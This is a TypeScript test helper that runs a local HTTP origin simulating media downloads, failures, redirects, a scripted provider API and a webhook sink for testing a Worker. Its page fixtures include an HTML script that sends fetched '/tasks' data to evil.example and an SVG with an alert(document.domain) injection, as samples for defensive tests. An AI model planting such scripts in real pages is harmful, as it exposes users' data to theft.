// A real local HTTP media origin for tests (Node only: `node:http`).
//
// Start it from Node (vitest globalSetup, a script) and hand its URLs to the Worker under
// test. Every file it serves follows the pattern of support/pattern.ts
// (byte i = (i + seed * 7) % 251), so `patternSha256(size, seed)` gives the expected digest.
//
// Two listeners share one handler and one state (log, counters, scripts):
//   url    → http://127.0.0.1:<port>   (or opts.host/opts.port)
//   altUrl → http://127.0.0.2:<port>   a second loopback address, i.e. a *different host* that
//            would answer if a client followed a redirect there. Falls back to http://[::1]:<port>
//            when 127.0.0.2 cannot be bound (see `altHost`).
//
// Routes (GET; HEAD works wherever a body is served; unknown → 404):
//   /bytes/<name>?size=N&seed=S&cl=1|0&type=<mime>&chunk=<bytes>&chunkDelayMs=D
//       pattern bytes, streamed in `chunk`-byte writes (default 64 KiB) with back-pressure.
//       cl=0 → no Content-Length (chunked transfer). type → Content-Type
//       (default application/octet-stream). chunkDelayMs → pause between writes.
//   /status/<code>                         that status with a short text body
//   /flaky/<key>/<name>?fail=K&status=500&size=N&seed=S&type=<mime>
//       the first K requests for <key> get `status`; later ones are served like /bytes (with
//       Content-Length).
//   /truncate/<name>?size=N&send=M&seed=S[&cl=0]  declares Content-Length N (cl=0: chunked, no
//       length), sends M bytes, destroys the socket
//   /redirect?to=<url-encoded absolute url>&status=302
//   /redirect-chain/<n>/<name>?size=N&seed=S[&rel=1]
//       n hops of 302 to /redirect-chain/<n-1>/<name>?<same query> (absolute URL on the same
//       listener, or a relative Location with rel=1), then the bytes at 0.
//   /slow/<name>?size=N&seed=S&delayMs=D   waits D ms before sending headers, then the bytes
//   /page/<name>?as=html|xml|svg|json|text[&type=<mime>][&cl=0]
//       a 200 that is not media: an "expired" HTML page (with a script), an XML error, an SVG
//       with a script, JSON or text; `type` overrides its Content-Type (a mislabelled page)
//   /stall/<name>?size=N&send=M&seed=S[&cl=0][&holdMs=H][&once=<key>]
//       headers (Content-Length N unless cl=0) and M bytes, then silence with the socket held
//       open for H ms (default 300000) or until the client leaves; with once=<key> only the first
//       request for <key> stalls, later ones get the whole file
// Media headers: every body of /bytes, /flaky, /truncate, /redirect-chain, /slow and /stall
// begins with the real header of the format its name's extension says (mp3, mp4, jpeg, jpg, png,
// wav) laid over the pattern, or of `?magic=<format>` (`magic=none`: the bare pattern).
//   /provider/<path>                       scripted provider API (record-info etc.), see below; the
//                                          submit endpoints: support/fake-provider.ts, when set
//   POST /events[/<anything>]              an outbound events sink (see below)
// Control routes (never logged):
//   GET  /__log[?path=<prefix>]  → {"requests":[{method,path,query,host,ua,auth,listener,at}]}
//   POST /__reset                clears the log and the /flaky counters
//   POST /__provider/script      body {"<path+query>": [{status, body, headers?, delayMs?}, ...]};
//                                merges into the script table (a given key replaces its queue)
//   DELETE /__provider/script    clears all provider scripts
//   POST /__events/script        body {"<taskId>": [{status, body?, headers?, delayMs?}, ...]}: how
//                                the sink answers the events of that task (the last one repeats;
//                                "*" for every task); unscripted events get 204
//   GET  /__events/log[?taskId=] → {"deliveries":[{path, headers, body, taskId, status, at}]}
//   POST /__events/reset         clears the sink's log and scripts
//
// Events sink: a POST to /events… is logged with its raw body and its webhook-*, content-type
// and user-agent headers (the tests verify them with the `standardwebhooks` library), and
// answered as scripted for the task named by the body's data.taskId. `closedUrl` is a loopback
// URL on which nothing listens (connection refused).
//
// Provider scripting: GET /provider/api/v1/generate/record-info?taskId=abc looks up the key
// "/api/v1/generate/record-info?taskId=abc" (exact path+query), then "/api/v1/generate/record-info"
// (path only). Each request pops the next response; the last one repeats once the queue is
// exhausted; no key → 404. `body` objects are sent as JSON, strings as they are. A handler set
// with `setProviderHandler` is asked first. The log records whether an Authorization header was
// present (`auth`), never its value.
//
// This file imports nothing from the project (the pattern is inlined and kept identical to
// pattern.ts) so it can also be run directly with Node 22's type stripping, e.g.
//   node -e 'import("./support/origin.ts").then(m => m.startOrigin({ port: 9090 })).then(o => console.log(o))'

import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

export interface OriginLogEntry {
  method: string;
  /** URL path as received, e.g. "/bytes/a.mp3". */
  path: string;
  /** Raw query string without the leading "?", "" when absent. */
  query: string;
  /** Host request header (null when absent). */
  host: string | null;
  /** User-Agent request header (null when absent). */
  ua: string | null;
  /** Whether an Authorization header was present (its value is never recorded). */
  auth: boolean;
  /** Which listener received the request. */
  listener: "primary" | "alt";
  /** ms since epoch. */
  at: number;
}

export interface ProviderScriptedResponse {
  status: number;
  /** Objects/arrays/numbers/null are sent as JSON; strings verbatim. Omitted → empty body. */
  body?: unknown;
  headers?: Record<string, string>;
  /** Wait this long before answering (for timeout tests). */
  delayMs?: number;
  /** Close the connection instead of answering (after delayMs). */
  drop?: boolean;
}

export interface ProviderRequest {
  method: string;
  /** Path after the "/provider" prefix, e.g. "/api/v1/generate/record-info". */
  path: string;
  /** Raw query string without "?". */
  query: string;
  headers: IncomingMessage["headers"];
  /** The request body as text ("" for GET and HEAD). */
  body: string;
}

/** Answers a control route (`/__<name>/…`) that this file does not know; undefined: 404. */
export type ControlHandler = (
  method: string,
  path: string,
  query: URLSearchParams,
  body: string,
) => { status: number; body: unknown } | undefined;

/** Return a response to answer, or undefined to fall through to the scripts. */
export type ProviderHandler = (
  req: ProviderRequest,
) => ProviderScriptedResponse | undefined | Promise<ProviderScriptedResponse | undefined>;

export interface EventDelivery {
  path: string;
  /** webhook-id, webhook-timestamp, webhook-signature, content-type, user-agent (when present). */
  headers: Record<string, string>;
  /** The raw body, exactly as received. */
  body: string;
  /** data.taskId of the body, when it has one. */
  taskId: string | null;
  /** The status the sink answered (or was about to answer, for a client that gave up). */
  status: number;
  at: number;
}

export interface Origin {
  /** Base URL of the primary listener, e.g. "http://127.0.0.1:41234" (no trailing slash). */
  url: string;
  /** Base URL of the second listener on another loopback host, e.g. "http://127.0.0.2:39871". */
  altUrl: string;
  /** The host actually bound for altUrl: "127.0.0.2", or "::1" as fallback. */
  altHost: string;
  /** http://127.0.0.1:<port> on which nothing listens: connection refused. */
  closedUrl: string;
  close(): Promise<void>;
  /** In-process equivalents of the control routes. */
  log(pathPrefix?: string): OriginLogEntry[];
  reset(): void;
  script(table: Record<string, ProviderScriptedResponse[]>): void;
  clearScripts(): void;
  setProviderHandler(fn: ProviderHandler | null): void;
  /** Serves further control routes, e.g. the fake provider's (support/fake-provider.ts). */
  setControlHandler(fn: ControlHandler | null): void;
  /** Events the sink received (optionally only those of one task). */
  eventDeliveries(taskId?: string): EventDelivery[];
  scriptEvents(table: Record<string, ProviderScriptedResponse[]>): void;
}

const EVENT_HEADERS = ["webhook-id", "webhook-timestamp", "webhook-signature", "content-type", "user-agent"];

const PIECE = 64 * 1024;
const PERIOD = 251;

// --- pattern (identical to support/pattern.ts; inlined to keep this file standalone) ---

const periodTable = Buffer.alloc(PERIOD * 2);
for (let i = 0; i < periodTable.length; i++) periodTable[i] = i % PERIOD;

function mod(n: number, m: number): number {
  return ((n % m) + m) % m;
}

function patternPiece(offset: number, length: number, seed: number): Buffer {
  const out = Buffer.allocUnsafe(length);
  let phase = mod(mod(mod(Math.trunc(seed), PERIOD) * 7, PERIOD) + mod(offset, PERIOD), PERIOD);
  let pos = 0;
  while (pos < length) {
    const n = Math.min(PERIOD, length - pos);
    periodTable.copy(out, pos, phase, phase + n);
    pos += n;
    phase = mod(phase + n, PERIOD);
  }
  return out;
}

// --- media headers (identical to the MEDIA_HEADERS of support/pattern.ts) ---
//
// A file whose name ends in a media extension (or whose `?magic=` names a format) begins with a
// real header of that format laid over the pattern (same size), so that a content sniffer takes
// it for what its name says; `mediaSha256(name, size, seed)` of pattern.ts gives its digest.
// `magic=none` (or an unknown extension) serves the bare pattern.

const MEDIA_HEADERS: Record<string, Buffer> = {
  mp3: Buffer.from("fffb9064", "hex"),
  mp4: Buffer.from("000000186674797069736f6d0000020069736f6d69736f32", "hex"),
  jpeg: Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
  jpg: Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
  png: Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"),
  wav: Buffer.from(
    "52494646f0ffff7f57415645666d7420100000000100020044ac000010b102000400100064617461ccffff7f",
    "hex",
  ),
};

/** The header of the file a request asks for: by `?magic=`, else by its name's extension. */
function headerOf(rawUrl: string | undefined): Buffer {
  const u = new URL(rawUrl ?? "/", "http://origin.invalid");
  const format = u.searchParams.get("magic") ?? /\.([a-z0-9]+)$/i.exec(u.pathname)?.[1]?.toLowerCase() ?? "";
  return MEDIA_HEADERS[format] ?? Buffer.alloc(0);
}

/** The pattern bytes [offset, offset + length) with the request's media header laid over them. */
function mediaPiece(rawUrl: string | undefined, offset: number, length: number, seed: number): Buffer {
  const piece = patternPiece(offset, length, seed);
  const header = headerOf(rawUrl);
  if (offset < header.length) header.copy(piece, 0, offset, Math.min(header.length, offset + length));
  return piece;
}

/** Bodies of /page/<name>?as=…: what a CDN answers with 200 when the file is gone or never was. */
const PAGES: Record<string, { type: string; body: string }> = {
  html: {
    type: "text/html; charset=utf-8",
    body:
      "<!DOCTYPE html>\n<html><head><title>Link expired</title></head><body>\n" +
      "<h1>This download link has expired</h1>\n" +
      "<script>fetch('/tasks').then((r) => r.text()).then((t) => navigator.sendBeacon('https://evil.example/', t));</script>\n" +
      "</body></html>\n",
  },
  xml: {
    type: "application/xml",
    body:
      '<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>AccessDenied</Code>' +
      "<Message>Request has expired</Message><Expires>2026-11-29T10:00:00Z</Expires></Error>\n",
  },
  svg: {
    type: "image/svg+xml",
    body:
      '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      "<script>alert(document.domain)</script><rect width='100' height='100'/></svg>\n",
  },
  json: { type: "application/json", body: '{"code":403,"msg":"The link has expired","data":null}\n' },
  text: { type: "text/plain; charset=utf-8", body: "Link expired. Please generate the file again.\n" },
};

// --- helpers ---

function intParam(q: URLSearchParams, name: string, dflt: number): number {
  const raw = q.get(name);
  if (raw === null || raw === "") return dflt;
  const n = Number(raw);
  if (!Number.isSafeInteger(n) || n < 0)
    throw new BadRequest(`query parameter ${name} must be a non-negative integer`);
  return n;
}

class BadRequest extends Error {}

function sleep(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

function text(res: ServerResponse, status: number, body: string, headers: Record<string, string> = {}): void {
  const noBody =
    res.req.method === "HEAD" || status === 204 || status === 304 || (status >= 100 && status < 200);
  const buf = Buffer.from(body, "utf8");
  res.writeHead(status, {
    "Content-Type": "text/plain; charset=utf-8",
    ...(noBody ? {} : { "Content-Length": String(buf.length) }),
    ...headers,
  });
  res.end(noBody ? undefined : buf);
}

function json(res: ServerResponse, status: number, value: unknown): void {
  const buf = Buffer.from(JSON.stringify(value), "utf8");
  res.writeHead(status, { "Content-Type": "application/json", "Content-Length": String(buf.length) });
  res.end(res.req.method === "HEAD" ? undefined : buf);
}

async function readBody(req: IncomingMessage, limit = 1024 * 1024): Promise<string> {
  const chunks: Buffer[] = [];
  let n = 0;
  for await (const c of req) {
    n += (c as Buffer).length;
    if (n > limit) throw new BadRequest("body too large");
    chunks.push(c as Buffer);
  }
  return Buffer.concat(chunks).toString("utf8");
}

/** True once the client went away (aborted, reset, timed out). */
function gone(res: ServerResponse): boolean {
  return res.destroyed || res.socket === null || res.socket.destroyed;
}

/** Resolves true when the socket can take more, false when the response went away. */
function drained(res: ServerResponse): Promise<boolean> {
  return new Promise((resolve) => {
    const onDrain = () => {
      cleanup();
      resolve(true);
    };
    const onClose = () => {
      cleanup();
      resolve(false);
    };
    const cleanup = () => {
      res.off("drain", onDrain);
      res.off("close", onClose);
    };
    res.on("drain", onDrain);
    res.on("close", onClose);
  });
}

interface BytesOptions {
  size: number;
  seed: number;
  contentLength: boolean;
  type: string;
  piece: number;
  pieceDelayMs: number;
  status?: number;
}

/** Streams the pattern with back-pressure; never holds more than one piece. */
async function sendBytes(res: ServerResponse, o: BytesOptions): Promise<void> {
  const headers: Record<string, string> = { "Content-Type": o.type, "Cache-Control": "no-store" };
  if (o.contentLength) headers["Content-Length"] = String(o.size);
  res.writeHead(o.status ?? 200, headers);
  if (res.req.method === "HEAD") {
    res.end();
    return;
  }
  let offset = 0;
  while (offset < o.size) {
    if (gone(res)) return;
    const n = Math.min(o.piece, o.size - offset);
    const ok = res.write(mediaPiece(res.req.url, offset, n, o.seed));
    offset += n;
    if (!ok && !(await drained(res))) return;
    if (o.pieceDelayMs > 0 && offset < o.size) await sleep(o.pieceDelayMs);
  }
  res.end();
}

function bytesOptions(q: URLSearchParams): BytesOptions {
  const piece = intParam(q, "chunk", PIECE);
  return {
    size: intParam(q, "size", 1024),
    seed: intParam(q, "seed", 0),
    contentLength: q.get("cl") !== "0",
    type: q.get("type") || "application/octet-stream",
    piece: piece > 0 ? piece : PIECE,
    pieceDelayMs: intParam(q, "chunkDelayMs", 0),
  };
}

// --- server ---

/**
 * The headers of a body that will not be served whole: 200, Content-Length `size` (unless
 * `cl=0`); returns how many bytes to send (`send`, default half) and the pattern's seed.
 */
function partialHead(res: ServerResponse, q: URLSearchParams): { send: number; seed: number } {
  const size = intParam(q, "size", 1024);
  res.writeHead(200, {
    "Content-Type": q.get("type") || "application/octet-stream",
    ...(q.get("cl") === "0" ? {} : { "Content-Length": String(size) }),
    "Cache-Control": "no-store",
  });
  return { send: Math.min(intParam(q, "send", Math.floor(size / 2)), size), seed: intParam(q, "seed", 0) };
}

/** Resolves after `ms`, or as soon as the client closes the connection. */
function waitOrClose(res: ServerResponse, ms: number): Promise<void> {
  return new Promise<void>((resolve) => {
    const done = () => {
      clearTimeout(timer);
      res.off("close", done);
      resolve();
    };
    const timer = setTimeout(done, ms);
    res.on("close", done);
  });
}

export async function startOrigin(opts: { host?: string; port?: number } = {}): Promise<Origin> {
  const host = opts.host ?? "127.0.0.1";
  const log: OriginLogEntry[] = [];
  const flaky = new Map<string, number>();
  const scripts = new Map<string, { queue: ProviderScriptedResponse[]; next: number }>();
  let providerHandler: ProviderHandler | null = null;
  let controlHandler: ControlHandler | null = null;
  const deliveries: EventDelivery[] = [];
  const eventScripts = new Map<string, { queue: ProviderScriptedResponse[]; next: number }>();
  const bases: { primary: string; alt: string } = { primary: "", alt: "" };

  const reset = () => {
    log.length = 0;
    flaky.clear();
  };
  const script = (table: Record<string, ProviderScriptedResponse[]>) => {
    for (const [key, queue] of Object.entries(table)) {
      if (!Array.isArray(queue)) throw new BadRequest(`script for ${key} must be an array`);
      for (const r of queue) {
        if (!r || typeof r !== "object" || !Number.isInteger(r.status)) {
          throw new BadRequest(`script for ${key}: every entry needs an integer status`);
        }
      }
      scripts.set(key, { queue: [...queue], next: 0 });
    }
  };
  const scriptEvents = (table: Record<string, ProviderScriptedResponse[]>) => {
    for (const [key, queue] of Object.entries(table)) {
      if (!Array.isArray(queue) || queue.some((r) => !r || !Number.isInteger(r.status))) {
        throw new BadRequest(`events script for ${key}: every entry needs an integer status`);
      }
      eventScripts.set(key, { queue: [...queue], next: 0 });
    }
  };
  const readDeliveries = (taskId?: string) =>
    deliveries
      .filter((d) => !taskId || d.taskId === taskId)
      .map((d) => ({ ...d, headers: { ...d.headers } }));
  const readLog = (prefix?: string) =>
    log.filter((e) => !prefix || e.path.startsWith(prefix)).map((e) => ({ ...e }));

  async function handle(
    req: IncomingMessage,
    res: ServerResponse,
    listener: "primary" | "alt",
  ): Promise<void> {
    const u = new URL(req.url ?? "/", "http://origin.invalid");
    const path = u.pathname;
    const q = u.searchParams;
    const method = req.method ?? "GET";
    const base = bases[listener];

    if (path.startsWith("/__")) {
      if (path === "/__log" && (method === "GET" || method === "HEAD")) {
        json(res, 200, { requests: readLog(q.get("path") ?? undefined) });
      } else if (path === "/__reset" && method === "POST") {
        await readBody(req);
        reset();
        json(res, 200, { ok: true });
      } else if (path === "/__provider/script" && method === "POST") {
        const raw = await readBody(req);
        let table: unknown;
        try {
          table = JSON.parse(raw);
        } catch {
          throw new BadRequest("script body must be JSON");
        }
        if (!table || typeof table !== "object" || Array.isArray(table))
          throw new BadRequest("script must be an object");
        script(table as Record<string, ProviderScriptedResponse[]>);
        json(res, 200, { ok: true, keys: [...scripts.keys()] });
      } else if (path === "/__events/script" && method === "POST") {
        let table: unknown;
        try {
          table = JSON.parse(await readBody(req));
        } catch {
          throw new BadRequest("script body must be JSON");
        }
        if (!table || typeof table !== "object" || Array.isArray(table))
          throw new BadRequest("script must be an object");
        scriptEvents(table as Record<string, ProviderScriptedResponse[]>);
        json(res, 200, { ok: true });
      } else if (path === "/__events/log" && method === "GET") {
        json(res, 200, { deliveries: readDeliveries(q.get("taskId") ?? undefined) });
      } else if (path === "/__events/reset" && method === "POST") {
        await readBody(req);
        deliveries.length = 0;
        eventScripts.clear();
        json(res, 200, { ok: true });
      } else if (path === "/__provider/script" && method === "DELETE") {
        scripts.clear();
        json(res, 200, { ok: true });
      } else {
        const body = method === "GET" || method === "HEAD" ? "" : await readBody(req);
        const answer = controlHandler?.(method, path, q, body);
        if (answer) json(res, answer.status, answer.body);
        else text(res, 404, "not found\n");
      }
      return;
    }

    log.push({
      method,
      path,
      query: u.search.replace(/^\?/, ""),
      host: req.headers.host ?? null,
      ua: req.headers["user-agent"] ?? null,
      auth: req.headers.authorization !== undefined,
      listener,
      at: Date.now(),
    });

    if (path === "/provider" || path.startsWith("/provider/")) {
      const ppath = path.slice("/provider".length) || "/";
      const pquery = u.search.replace(/^\?/, "");
      let answer: ProviderScriptedResponse | undefined;
      if (providerHandler) {
        const body = method === "GET" || method === "HEAD" ? "" : await readBody(req);
        answer = await providerHandler({ method, path: ppath, query: pquery, headers: req.headers, body });
      }
      if (!answer) {
        const entry = scripts.get(pquery ? `${ppath}?${pquery}` : ppath) ?? scripts.get(ppath);
        if (entry && entry.queue.length > 0) {
          answer = entry.queue[Math.min(entry.next, entry.queue.length - 1)];
          entry.next++;
        }
      }
      if (!answer) {
        json(res, 404, { code: 404, msg: "no scripted provider response" });
        return;
      }
      if (answer.delayMs) await sleep(answer.delayMs);
      if (gone(res)) return;
      if (answer.drop) {
        res.socket?.destroy();
        return;
      }
      const isString = typeof answer.body === "string";
      const body =
        answer.body === undefined ? "" : isString ? (answer.body as string) : JSON.stringify(answer.body);
      const buf = Buffer.from(body, "utf8");
      res.writeHead(answer.status, {
        "Content-Type": isString ? "text/plain; charset=utf-8" : "application/json",
        "Content-Length": String(buf.length),
        ...answer.headers,
      });
      res.end(method === "HEAD" ? undefined : buf);
      return;
    }

    if ((path === "/events" || path.startsWith("/events/")) && method === "POST") {
      const body = await readBody(req, 4 * 1024 * 1024);
      let taskId: string | null = null;
      try {
        const parsed = JSON.parse(body) as { data?: { taskId?: unknown } };
        if (typeof parsed.data?.taskId === "string") taskId = parsed.data.taskId;
      } catch {
        // Not JSON: logged all the same.
      }
      const headers: Record<string, string> = {};
      for (const name of EVENT_HEADERS) {
        const value = req.headers[name];
        if (typeof value === "string") headers[name] = value;
      }
      const entry = (taskId && eventScripts.get(taskId)) || eventScripts.get("*");
      let answer: ProviderScriptedResponse = { status: 204 };
      if (entry && entry.queue.length > 0) {
        answer = entry.queue[Math.min(entry.next, entry.queue.length - 1)] as ProviderScriptedResponse;
        entry.next++;
      }
      deliveries.push({ path, headers, body, taskId, status: answer.status, at: Date.now() });
      if (answer.delayMs) {
        await new Promise<void>((resolve) => {
          const timer = setTimeout(done, answer.delayMs);
          function done() {
            clearTimeout(timer);
            res.off("close", done);
            resolve();
          }
          res.on("close", done);
        });
      }
      if (gone(res)) return;
      const text =
        answer.body === undefined
          ? ""
          : typeof answer.body === "string"
            ? answer.body
            : JSON.stringify(answer.body);
      const buf = Buffer.from(text, "utf8");
      res.writeHead(answer.status, {
        ...(answer.status === 204 || answer.status === 304 ? {} : { "Content-Length": String(buf.length) }),
        ...answer.headers,
      });
      res.end(answer.status === 204 || answer.status === 304 ? undefined : buf);
      return;
    }

    if (method !== "GET" && method !== "HEAD") {
      text(res, 405, "method not allowed\n", { Allow: "GET, HEAD" });
      return;
    }

    const parts = path.split("/").filter((p) => p !== "");
    const route = parts[0] ?? "";

    switch (route) {
      case "bytes": {
        if (parts.length < 2) break;
        await sendBytes(res, bytesOptions(q));
        return;
      }
      case "status": {
        const code = Number(parts[1]);
        if (parts.length !== 2 || !Number.isInteger(code) || code < 200 || code > 999) break;
        text(res, code, `status ${code}\n`);
        return;
      }
      case "flaky": {
        if (parts.length < 3) break;
        const key = parts[1] as string;
        const seen = (flaky.get(key) ?? 0) + 1;
        flaky.set(key, seen);
        const fail = intParam(q, "fail", 1);
        if (seen <= fail) {
          const status = intParam(q, "status", 500);
          text(res, status, `flaky ${key}: failure ${seen} of ${fail}\n`);
        } else {
          await sendBytes(res, { ...bytesOptions(q), contentLength: true });
        }
        return;
      }
      case "truncate": {
        if (parts.length < 2) break;
        const { send, seed } = partialHead(res, q);
        if (method === "HEAD") {
          res.end();
          return;
        }
        res.flushHeaders();
        let offset = 0;
        while (offset < send) {
          if (gone(res)) return;
          const n = Math.min(PIECE, send - offset);
          const ok = res.write(mediaPiece(req.url, offset, n, seed));
          offset += n;
          if (!ok && !(await drained(res))) return;
        }
        // Close the connection without finishing the body: a FIN after the bytes sent, so the
        // client reads everything up to the cut (a reset could discard even the headers).
        const socket = res.socket;
        if (socket && !socket.destroyed) {
          await new Promise<void>((resolve) => socket.end(() => resolve()));
        }
        return;
      }
      case "redirect": {
        if (parts.length !== 1) break;
        const to = q.get("to");
        if (!to) throw new BadRequest("missing ?to=");
        const status = intParam(q, "status", 302);
        text(res, status, `redirect to ${to}\n`, { Location: to });
        return;
      }
      case "redirect-chain": {
        const n = Number(parts[1]);
        if (parts.length < 3 || !Number.isSafeInteger(n) || n < 0) break;
        if (n === 0) {
          await sendBytes(res, bytesOptions(q));
          return;
        }
        const rest = parts.slice(2).join("/");
        const next = `/redirect-chain/${n - 1}/${rest}${u.search}`;
        text(res, 302, `hop ${n}\n`, { Location: q.get("rel") === "1" ? next : `${base}${next}` });
        return;
      }
      case "page": {
        // A real 200 answer that is not media: an error page, an XML error, an SVG, JSON, text.
        if (parts.length < 2) break;
        const as = q.get("as") ?? "html";
        const page = PAGES[as];
        if (!page) throw new BadRequest(`unknown page ?as=${as}`);
        const buf = Buffer.from(page.body, "utf8");
        res.writeHead(200, {
          "Content-Type": q.get("type") || page.type,
          ...(q.get("cl") === "0" ? {} : { "Content-Length": String(buf.length) }),
          "Cache-Control": "no-store",
        });
        res.end(method === "HEAD" ? undefined : buf);
        return;
      }
      case "stall": {
        // Headers and `send` bytes, then silence: the socket stays open (holdMs, default 5 min)
        // until the client gives up. With once=<key>, later requests for that key get the file.
        if (parts.length < 2) break;
        const once = q.get("once");
        if (once) {
          const seen = (flaky.get(`stall:${once}`) ?? 0) + 1;
          flaky.set(`stall:${once}`, seen);
          if (seen > 1) {
            await sendBytes(res, { ...bytesOptions(q), contentLength: true });
            return;
          }
        }
        const { send, seed } = partialHead(res, q);
        res.flushHeaders();
        if (send > 0) res.write(mediaPiece(req.url, 0, send, seed));
        await waitOrClose(res, intParam(q, "holdMs", 300_000));
        if (!gone(res)) res.destroy();
        return;
      }
      case "slow": {
        if (parts.length < 2) break;
        await waitOrClose(res, intParam(q, "delayMs", 1000));
        if (gone(res)) return;
        await sendBytes(res, bytesOptions(q));
        return;
      }
    }
    text(res, 404, "not found\n");
  }

  const makeServer = (listener: "primary" | "alt"): Server => {
    const server = createServer((req, res) => {
      handle(req, res, listener).catch((err: unknown) => {
        if (res.headersSent) {
          res.destroy();
          return;
        }
        if (err instanceof BadRequest) text(res, 400, `${err.message}\n`);
        else text(res, 500, `origin error: ${err instanceof Error ? err.message : String(err)}\n`);
      });
    });
    // Longer than any pause between a test's requests: a server closing an idle keep-alive
    // connection just as workerd reuses it fails that request with "Network connection lost".
    server.keepAliveTimeout = 65_000;
    server.headersTimeout = 66_000;
    return server;
  };

  const listen = (server: Server, h: string, port: number) =>
    new Promise<number>((resolve, reject) => {
      const onError = (err: Error) => reject(err);
      server.once("error", onError);
      server.listen(port, h, () => {
        server.off("error", onError);
        resolve((server.address() as AddressInfo).port);
      });
    });

  const fmt = (h: string, port: number) =>
    h.includes(":") ? `http://[${h}]:${port}` : `http://${h}:${port}`;

  const primary = makeServer("primary");
  const primaryPort = await listen(primary, host, opts.port ?? 0);
  bases.primary = fmt(host, primaryPort);

  let alt = makeServer("alt");
  let altHost = "";
  for (const candidate of ["127.0.0.2", "::1"]) {
    if (candidate === host) continue;
    try {
      const p = await listen(alt, candidate, 0);
      altHost = candidate;
      bases.alt = fmt(candidate, p);
      break;
    } catch {
      alt = makeServer("alt");
    }
  }
  if (!altHost) {
    await new Promise<void>((resolve) => primary.close(() => resolve()));
    throw new Error("origin: could not bind a second loopback listener (tried 127.0.0.2 and ::1)");
  }

  // A port that was free a moment ago and that nothing listens on now: connection refused.
  const closed = createServer();
  const closedPort = await listen(closed, host, 0);
  await new Promise<void>((resolve) => closed.close(() => resolve()));

  const closeServer = (s: Server) =>
    new Promise<void>((resolve) => {
      if (!s.listening) return resolve();
      s.close(() => resolve());
      s.closeAllConnections();
    });

  return {
    url: bases.primary,
    altUrl: bases.alt,
    altHost,
    closedUrl: fmt(host, closedPort),
    close: async () => {
      await Promise.all([closeServer(primary), closeServer(alt)]);
    },
    log: readLog,
    reset,
    script,
    clearScripts: () => scripts.clear(),
    setProviderHandler: (fn) => {
      providerHandler = fn;
    },
    setControlHandler: (fn) => {
      controlHandler = fn;
    },
    eventDeliveries: readDeliveries,
    scriptEvents,
  };
}
